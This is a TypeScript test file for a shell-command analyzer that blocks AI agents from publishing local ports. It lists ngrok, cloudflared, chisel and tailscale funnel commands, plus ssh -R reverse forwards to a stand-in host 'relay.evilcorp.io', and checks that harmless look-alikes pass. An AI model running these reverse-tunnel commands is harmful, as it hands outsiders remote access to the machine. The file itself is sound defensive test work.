import { describe, expect, it } from 'vitest';
import { familyTable } from '../../../../test/verdict/family-table.ts';
import { analyzeShell } from '../analyzers/shell.ts';
import { topFinding } from '../codes.ts';

const X = 'EXFILTRATION_BLOCKED';

describe('tunnels: agents that publish a port of this machine', () => {
  familyTable([
    ['ngrok http 3000', X],
    ['ngrok tcp 22 --region eu', X],
    ['ngrok start --all', X],
    ['cloudflared tunnel --url http://localhost:3000', X],
    ['cloudflared tunnel run prod-ssh', X],
    ['lt --port 8000 --subdomain demo', X],
    ['npx localtunnel --port 8000', X],
    ['bore local 8000 --to bore.pub', X],
    ['chisel client relay.example.com:8080 R:2222:localhost:22', X],
    ['tailscale funnel 3000', X],
    // look-alikes: setup, listing, status, forward (not reverse) tunnels
    ['ngrok config add-authtoken abc123', null],
    ['ngrok version', null],
    ['cloudflared tunnel list', null],
    ['cloudflared tunnel login', null],
    ['chisel client relay.example.com:8080 5432:db:5432', null],
    ['tailscale funnel status', null],
    ['tailscale status', null],
  ]);
});

describe('ssh -R: a port on the remote host that leads here', () => {
  const code = (command: string, trusted: string[] = []) =>
    topFinding(
      analyzeShell(command, { egress: { mode: 'denylist', trusted_domains: trusted, blocked_domains: [] } }),
    )?.code ?? null;

  it('is exfiltration to a host the account does not trust, whatever the flags around it', () => {
    expect(code('ssh -R 4444:localhost:22 user@relay.evilcorp.io')).toBe(X);
    expect(code('ssh -NR 4444:localhost:22 relay.evilcorp.io')).toBe(X);
    expect(code('ssh -R4444:localhost:22 -p 2222 user@relay.evilcorp.io')).toBe(X);
  });

  it('passes to a trusted host, and local or dynamic forwards pass', () => {
    expect(code('ssh -R 9000:localhost:9000 ops@build.example.com', ['example.com'])).toBeNull();
    expect(code('ssh -L 5432:db:5432 bastion.example.com')).toBeNull();
    expect(code('ssh -D 1080 user@host.example.com')).toBeNull();
  });
});
